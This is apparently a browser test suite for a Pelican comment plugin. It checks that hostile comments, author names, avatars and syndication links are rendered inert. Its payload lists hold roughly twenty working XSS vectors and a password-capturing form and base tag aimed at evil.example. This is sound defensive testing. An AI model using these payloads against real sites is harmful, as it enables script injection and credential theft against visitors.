"""Hostile comments in a real browser: headless Chromium opens the built article page.

Every payload tries to leave a mark (``data-pwned-N`` on the root element)
or to cover the page. A probe script of our own, added to the built file,
proves JavaScript ran at all and reports what the layout looks like; the
same payloads written into a page *without* the sanitizer must leave their
marks, so the test cannot pass by accident. Chromium runs with name
resolution and every proxy disabled: nothing leaves the machine.
"""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import jinja2
import pytest
from browser import BROWSER_TEST, REPO, SCREENSHOTS, chromium
from bs4 import BeautifulSoup
from sitebuilder import TAKE, comment, store_thread, write_post, write_settings

from pelican.plugins.engage import plugin, site
from pelican.plugins.engage.model import Author, RemoteRef
from pelican.plugins.engage.settings import EngageSettings
from pelican.plugins.engage.store import Store
from pelican.plugins.engage.syndication.ledger import Entry, Ledger

SCREENSHOT = SCREENSHOTS / "conversation.png"

pytestmark = BROWSER_TEST


def mark(n: int) -> str:
    return f"document.documentElement.setAttribute('data-pwned-{n}','1')"


PAYLOADS = [
    f"<script>{mark(0)}</script>",
    f'<img src="x" onerror="{mark(1)}">',
    f'<svg onload="{mark(2)}"><script>{mark(2)}</script></svg>',
    f'<iframe srcdoc="<script>parent.{mark(3)}</script>"></iframe>',
    f'<details open ontoggle="{mark(4)}"><summary>x</summary></details>',
    (
        f'<math><mtext><table><mglyph><style><img src="x" onerror="{mark(5)}"></style>'
        "</mglyph></table></mtext></math>"
    ),
    f'<noscript><p title="</noscript><img src=x onerror={mark(6)}>"></noscript>',
    f'<input autofocus onfocus="{mark(7)}">',
    f'<video><source onerror="{mark(8)}"></video>',
    f'<object data="data:text/html,<script>parent.{mark(9)}</script>"></object>',
    f'<a href="javascript:{mark(10)}" id="js-link">an innocent link</a>',
    (
        '<div class="overlay" style="position:fixed;top:0;left:0;width:100vw;height:100vh;'
        'background:#c00;z-index:99999">YOU HAVE BEEN HACKED</div>'
    ),
    "<style>.site-header{display:none}</style>",
    '<base href="https://evil.example/">',  # (a meta refresh is covered in test_sanitize)
    '<form action="https://evil.example/"><input name="pw" placeholder="password"></form>',
]
INERT_TEXT = "I typed <script>alert(1)</script> here on purpose"
HOSTILE_NAME = f'<img src=x onerror="{mark(20)}">Mallory'
# Syndication links as a hostile server may answer them (a webmention endpoint's Location),
# and a commenter's own URLs: each would run script if printed as it came.
HOSTILE_LINKS = {
    "mastodon": f"javascript:{mark(30)}//",
    "bluesky": f'https://e.example/s"><script>{mark(31)}</script>',
    "x": f"https://e.example/s'><img src=x onerror={mark(32)}>",
    "facebook": f"data:text/html,<script>parent.{mark(33)}</script>",
}
HOSTILE_AUTHOR_URL = f"javascript:{mark(34)}"
HOSTILE_AVATAR = f'https://e.example/a.png" onerror="{mark(35)}'
HOSTILE_PERMALINK = f'https://e.example/p"><script>{mark(36)}</script>'

PROBE = """<script>
(function () {
  var root = document.documentElement;
  root.setAttribute('data-probe', 'ran');
  var conv = document.querySelector('.engage-conversation');
  var top = document.elementFromPoint(innerWidth / 2, 5);
  root.setAttribute('data-top', conv && top && conv.contains(top) ? 'conversation' : 'page');
  var header = document.querySelector('.site-header');
  root.setAttribute('data-header', header && header.offsetHeight > 0 ? 'shown' : 'hidden');
  root.setAttribute('data-overflow', String(root.scrollWidth > innerWidth));
  // A reader clicking every link that is neither http(s), mailto nor relative.
  document.querySelectorAll('a[href]').forEach(function (a) {
    var href = a.getAttribute('href');
    if (/^[a-z][a-z0-9+.-]*:/i.test(href) && !/^(https?|mailto):/i.test(href)) {
      try { a.click(); } catch (e) {}
    }
  });
})();
</script>"""


# The settings of the sites built here and in test_themes.py: one author's notebook,
# relative links (the pages are opened as files), no gate report on the page.
NOTEBOOK: dict[str, Any] = {
    "SITEURL": "",
    "RELATIVE_URLS": True,
    "ENGAGE_SHOW_GATE": False,
    "SITENAME": "Ada Quill's notebook",
    "AUTHOR": "Ada Quill",
}


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small site whose two articles carry a hostile and a friendly conversation."""
    root = tmp_path_factory.mktemp("browser-site")
    conf = write_settings(
        root,
        **NOTEBOOK,
        ENGAGE_AVATARS="hotlink",  # avatars that cannot load: an injected onerror would run
    )
    take = f"## My take\n\n{TAKE}"
    write_post(root / "content", "hostile", take, Title="Hostile comments", Slug="hostile")
    write_post(
        root / "content",
        "conversation",
        "## My take\n\nSmall servers are mostly about people. Here is what readers said.",
        Title="Running a small server",
        Slug="conversation",
    )
    db = root / "engage.sqlite3"
    hostile = [
        comment(str(i), "root", "Eve Adler", payload, i) for i, payload in enumerate(PAYLOADS)
    ]
    hostile.append(comment("text", "root", "Tess Ward", f"<p>{_escape(INERT_TEXT)}</p>", 50))
    hostile.append(comment("name", "root", HOSTILE_NAME, "<p>look at my name</p>", 51))
    evil_link = comment("links", "root", "Lin Ko", "<p>links</p>", 52)
    evil_link.ref = RemoteRef("mastodon", "links", "javascript:alert(1)")
    hostile.append(evil_link)
    urls = comment("urls", "root", "Ursula Vance", "<p>my own links</p>", 53)
    urls.ref = RemoteRef("mastodon", "urls", HOSTILE_PERMALINK)
    urls.author = Author("Ursula Vance", "@ursula", HOSTILE_AUTHOR_URL, HOSTILE_AVATAR)
    hostile.append(urls)
    store_thread(db, "content/hostile.md", "mastodon", hostile)
    store_syndications(db, "content/hostile.md", HOSTILE_LINKS)
    store_thread(db, "content/conversation.md", "mastodon", FRIENDLY_MASTODON, likes=12, reposts=3)
    store_thread(db, "content/conversation.md", "bluesky", FRIENDLY_BLUESKY, likes=7)
    site.build_site(site.load_settings(conf))
    write_snippet_page(conf, "content/hostile.md", root / "output" / "snippet.html")
    for name in ("hostile.html", "conversation.html", "snippet.html"):
        page = root / "output" / name
        page.write_text(
            page.read_text(encoding="utf-8").replace("</body>", PROBE + "</body>"),
            encoding="utf-8",
        )
    return root


def store_syndications(db: Path, article: str, links: dict[str, str]) -> None:
    """The ledger as adapters answered: each network's copy of the post at ``links``."""
    now = datetime(2026, 11, 3, 8, 0, tzinfo=UTC)
    with Store.open(db) as store:
        ledger = Ledger(store)
        for network, url in links.items():
            entry = ledger.add(Entry(article, network, 0, "t", "", now, f"k-{network}", now))
            ledger.mark_posted(entry, RemoteRef(network, f"id-{network}", url))


README_SNIPPET = re.compile(r"Ready to paste into an `article.html`.*?```jinja\n(.*?)```", re.S)


def write_snippet_page(conf: Path, article: str, page: Path) -> None:
    """The README's template snippet, pasted into a theme that does not autoescape."""
    snippet = README_SNIPPET.search((REPO / "README.md").read_text(encoding="utf-8"))
    assert snippet, "the README's snippet"
    state = plugin.read_state(EngageSettings.from_pelican(site.load_settings(conf)))
    conversation = state.conversations[article]
    engage = SimpleNamespace(
        show_gate=True,
        eligible=False,
        reasons=[SimpleNamespace(message=f"<img src=x onerror={mark(37)}>")],
        syndications=state.syndications.get(article, []),
        comments=conversation.comments,
        counts=conversation.counts,
    )
    env = jinja2.Environment(
        loader=jinja2.FileSystemLoader(str(plugin.TEMPLATES)), autoescape=False
    )
    body = env.from_string(snippet.group(1)).render(
        article=SimpleNamespace(engage=engage, url="hostile.html", slug="hostile"), SITEURL=""
    )
    page.write_text(
        "<!doctype html><html><head><title>snippet</title></head><body>"
        f'<header class="site-header">header</header>{body}</body></html>',
        encoding="utf-8",
    )


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


FRIENDLY_MASTODON = [
    comment("m1", "root", "Bob Marsh", "<p>The part about deciding what kind of place you "
            "want it to be is so true. We wrote our rules before we had ten members.</p>", 0),
    comment("m2", "m1", "Carol Nguyen", "<p>Did you publish them? I would love to read "
            "how other small instances word theirs.</p>", 12),
    comment("m3", "m2", "Ada Quill", "<p>They are on our about page. Short version: be kind, "
            "no ads, and we answer every report within a day.</p>", 30, is_own=True),
    comment("m4", "root", "Dave Okafor", "<p>Three years is a good run. What do you "
            "back up, and how often?</p>", 45, likes=2),
]  # fmt: skip
FRIENDLY_BLUESKY = [
    comment("b1", "root", "Eve Adler", "<p>Bookmarked for when we start our own.</p>", 20,
            network="bluesky"),
    comment("b2", "b1", "Ada Quill", "<p>Do! Ask me anything on the way.</p>", 50,
            network="bluesky", is_own=True),
]  # fmt: skip


def test_hostile_comments_run_no_script_and_show_as_text(built: Path, tmp_path: Path) -> None:
    url = (built / "output" / "hostile.html").as_uri()
    printed = chromium(url, tmp_path, "--window-size=1200,900", "--dump-dom")
    dom = BeautifulSoup(printed, "html.parser")
    root = dom.html
    assert root is not None
    assert root.get("data-probe") == "ran"  # JavaScript was on: the absence below means something
    pwned = sorted(a for a in root.attrs if a.startswith("data-pwned"))
    assert pwned == [], f"payloads ran: {pwned}"
    assert root.get("data-top") == "page"  # no comment covers the page
    assert root.get("data-header") == "shown"  # no comment restyles the page
    conversation = dom.select_one(".engage-conversation")
    assert conversation is not None
    forbidden = "script, style, iframe, object, embed, svg, math, form, input, base, meta"
    assert conversation.select(forbidden) == []
    # Images are the avatars the page itself shows (ENGAGE_AVATARS = "hotlink"), never a body's.
    assert all("engage-avatar" in img.get("class", []) for img in conversation.select("img"))
    assert conversation.select("[style], [onerror], [onload], [onfocus], [ontoggle]") == []
    for link in conversation.select("a[href]"):
        assert link["href"].startswith(("https://", "http://", "mailto:")), link
    # The text of the payloads shows, inert.
    text = conversation.get_text(" ")
    assert INERT_TEXT in text
    assert HOSTILE_NAME in text
    assert "an innocent link" in text and "YOU HAVE BEEN HACKED" in text
    assert "alert(1)" not in str(dom.select_one(".h-cite:-soup-contains('links')"))
    assert dom.title is not None and dom.title.text.startswith("Hostile comments")


def test_hostile_urls_run_no_script_in_the_theme_or_the_readme_snippet(
    built: Path, tmp_path: Path
) -> None:
    """Syndication links, author pages, avatars and permalinks from hostile servers: on the
    theme's page and in the README's snippet in a theme that does not autoescape, nothing
    runs when the page loads, when an avatar fails, or when a reader clicks every link."""
    for name in ("hostile.html", "snippet.html"):
        url = (built / "output" / name).as_uri()
        dom = BeautifulSoup(chromium(url, tmp_path, "--dump-dom"), "html.parser")
        root = dom.html
        assert root is not None and root.get("data-probe") == "ran", name
        pwned = sorted(a for a in root.attrs if a.startswith("data-pwned"))
        assert pwned == [], f"{name}: payloads ran: {pwned}"
        for link in dom.select("a[href]"):
            href = link["href"]
            assert not re.match(r"[a-z][a-z0-9+.-]*:", href, re.I) or href.startswith(
                ("https://", "http://", "mailto:")
            ), (name, link)
        assert dom.select("script:not(:last-of-type)") == [] or name == "hostile.html"
        assert dom.select("img[onerror], [onerror]") == [], name
    snippet = BeautifulSoup((built / "output" / "snippet.html").read_text("utf-8"), "html.parser")
    syndication = [a["href"] for a in snippet.select("a.u-syndication")]
    assert syndication and all(h.startswith("https://e.example/s%") for h in syndication)
    assert snippet.select("script") == [snippet.select("script")[-1]]  # the probe alone


def test_the_same_payloads_do_run_without_the_sanitizer(built: Path, tmp_path: Path) -> None:
    """The control: written raw into a page, the payloads leave their marks."""
    raw = "".join(f"<div>{p}</div>" for p in PAYLOADS)
    raw += "".join(f'<a class="u-syndication" href="{u}">copy</a>' for u in HOSTILE_LINKS.values())
    page = tmp_path / "raw.html"
    page.write_text(
        f"<!doctype html><html><head><title>raw</title></head><body>"
        f'<header class="site-header">header</header><section class="engage-conversation">'
        f"{raw}</section>{PROBE}</body></html>",
        encoding="utf-8",
    )
    dom = BeautifulSoup(chromium(page.as_uri(), tmp_path, "--dump-dom"), "html.parser")
    root = dom.html
    assert root is not None
    fired = {a for a in root.attrs if a.startswith("data-pwned")}
    assert {"data-pwned-0", "data-pwned-1", "data-pwned-2", "data-pwned-3"} <= fired
    assert {"data-pwned-30", "data-pwned-31"} <= fired  # the probe clicked the script link
    assert root.get("data-top") == "conversation"  # the overlay covers the page
    assert root.get("data-header") == "hidden"


def test_a_threaded_conversation_reads_on_a_phone_and_is_screenshotted(
    built: Path, tmp_path: Path
) -> None:
    url = (built / "output" / "conversation.html").as_uri()
    phone = BeautifulSoup(
        chromium(url, tmp_path, "--window-size=390,844", "--dump-dom"), "html.parser"
    )
    assert phone.html is not None and phone.html.get("data-overflow") == "false"
    answer = phone.select_one(".h-cite.is-author")
    assert answer is not None and answer.find_parent(class_="h-cite") is not None

    shot = tmp_path / "conversation.png"
    chromium(url, tmp_path, "--window-size=820,1640", f"--screenshot={shot}")
    data = shot.read_bytes()
    assert data.startswith(b"\x89PNG\r\n\x1a\n") and len(data) > 10_000
    SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
    SCREENSHOT.write_bytes(data)  # `make screenshots` puts it in docs/ for the README
